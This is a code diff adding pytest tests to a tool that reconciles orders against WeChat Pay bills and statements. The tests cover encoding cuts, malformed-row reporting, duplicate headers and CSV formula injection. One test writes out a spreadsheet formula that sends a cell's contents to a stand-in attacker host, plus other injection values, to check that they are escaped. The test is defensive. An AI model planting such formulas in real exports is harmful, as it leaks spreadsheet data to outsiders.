@@ -35,6 +35,15 @@ def csv_rows(text: str) -> list[dict[str, str]]:
     return list(csv.DictReader(io.StringIO(text)))
 
 
+def cuts_a_character(data: bytes, at: int) -> bool:
+    """Whether UTF-8 `data` cut at byte `at` ends inside a character."""
+    try:
+        data[:at].decode("utf-8")
+    except UnicodeDecodeError:
+        return True
+    return False
+
+
 def orders_of(path: str) -> list[Order]:
     converter = make_converter()
     text = Path(path).read_text(encoding="utf-8")
@@ -105,6 +114,32 @@ class TestAgreement:
         bill = tmp_path / "bill.csv"
         bill.write_bytes(text.encode("utf-8-sig"))
         assert run(capsys, ORDERS, bill)[0] == 0
+
+    def test_a_big_utf8_bill_cut_inside_a_character_at_16_kb_is_detected(
+        self, capsys: pytest.CaptureFixture[str], tmp_path: Path
+    ) -> None:
+        lines = Path(WECHAT).read_bytes().decode("gbk").split("\r\n")
+        head, rows, tail = lines[:4], lines[4:8], lines[8:]
+        more = [
+            row.replace("`4200000", f"`42{n:05d}").replace("`DY-", f"`DY{n}-")
+            for n in range(50)
+            for row in rows
+        ]
+        for pad in range(200):  # until byte 16,384 falls inside a character
+            title = head[0] + " " * pad
+            data = "\r\n".join([title, *head[1:], *more, *tail]).encode("utf-8")
+            if cuts_a_character(data, 16_384):
+                break
+        assert cuts_a_character(data, 16_384)
+        bill = tmp_path / "bill.csv"
+        bill.write_bytes(data)
+        none = tmp_path / "orders.json"
+        none.write_text("[]", encoding="utf-8")
+
+        code, out, err = run(capsys, none, bill)
+
+        assert (code, err) == (1, "")
+        assert "WeChat Pay bill: 200 lines read" in out
 
     def test_an_empty_difference_list_is_a_header_only_csv(
         self, capsys: pytest.CaptureFixture[str]
@@ -233,6 +268,49 @@ class TestFindings:
         assert row["detail"].endswith(" (got '--0.35')")
         written = csv_rows(target.read_text(encoding="utf-8-sig"))
         assert [r for r in written if r["kind"] == "malformed_row"] == [row]
+
+    def test_bad_rows_on_one_line_each_show_their_own_value(
+        self, capsys: pytest.CaptureFixture[str], tmp_path: Path
+    ) -> None:
+        # A compact JSON array, as a converter writes it: every row on line 1.
+        lines = json.loads(Path(SAMPLES / "statement.json").read_text("utf-8"))
+        lines[0]["amount"]["amount"] = "1.2.3"
+        lines[1]["settled_at"] = "yesterday"
+        statement = tmp_path / "statement.json"
+        statement.write_text(json.dumps(lines), encoding="utf-8")
+
+        code, out, _ = run(capsys, ORDERS, statement, "--csv")
+
+        assert code == 1
+        malformed = [r for r in csv_rows(out) if r["kind"] == "malformed_row"]
+        assert [(r["line"], r["detail"].split(":")[0]) for r in malformed] == [
+            ("1", "amount.amount"),
+            ("1", "settled_at"),
+        ]
+        assert malformed[0]["detail"].endswith(" (got '1.2.3')")
+        assert malformed[1]["detail"].endswith(" (got 'yesterday')")
+
+    def test_statement_text_never_reaches_a_spreadsheet_as_a_formula(
+        self, capsys: pytest.CaptureFixture[str], tmp_path: Path
+    ) -> None:
+        link = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
+        text = Path(SAMPLES / "statement.csv").read_text("utf-8")
+        text += '"=HYPERLINK(""https://evil.example/?x=""&A1,""click"")",'
+        text += "sale,5.00,CNY,0.01,2026-03-01T01:12:45Z,@SUM(1+1)\n"
+        text += "+4200000009,sale,1.00,CNY,0.01,2026-03-01T01:12:45Z,-DY-1001\n"
+        statement = tmp_path / "statement.csv"
+        statement.write_text(text, encoding="utf-8")
+        target = tmp_path / "differences.csv"
+
+        code, _, _ = run(capsys, ORDERS, statement, "--output", target)
+
+        assert code == 1
+        rows = csv_rows(target.read_text(encoding="utf-8-sig"))
+        assert [(r["transaction_id"], r["order_id"]) for r in rows] == [
+            (f"'{link}", "'@SUM(1+1)"),
+            ("'+4200000009", "'-DY-1001"),
+        ]
+        assert [r["statement_amount"] for r in rows] == ["5.00", "1.00"]
 
     def test_a_json_lines_statement_whose_first_line_is_an_array(
         self, capsys: pytest.CaptureFixture[str], tmp_path: Path
@@ -443,6 +521,28 @@ class TestBadUsage:
         code, out, err = run(capsys, ORDERS, statement)
         assert (code, out) == (2, "")
         assert "names amount twice" in err
+
+    def test_a_bill_header_that_names_a_column_twice_is_refused(
+        self, capsys: pytest.CaptureFixture[str], tmp_path: Path
+    ) -> None:
+        # Read by column name, the second amount column would win unseen.
+        lines = Path(WECHAT).read_bytes().decode("gbk").split("\r\n")
+        lines = [
+            f"{line},应结订单金额"
+            if line.startswith("交易时间")
+            else f"{line},`1.00"
+            if line.startswith("`2026")
+            else line
+            for line in lines
+        ]
+        bill = tmp_path / "bill.csv"
+        bill.write_bytes("\r\n".join(lines).encode("gbk"))
+
+        code, out, err = run(capsys, ORDERS, bill)
+
+        assert (code, out) == (2, "")
+        assert "not a WeChat Pay bill" in err
+        assert "应结订单金额 twice" in err
 
     def test_a_csv_of_bytes_no_encoding_reads_is_refused(
         self, capsys: pytest.CaptureFixture[str], tmp_path: Path
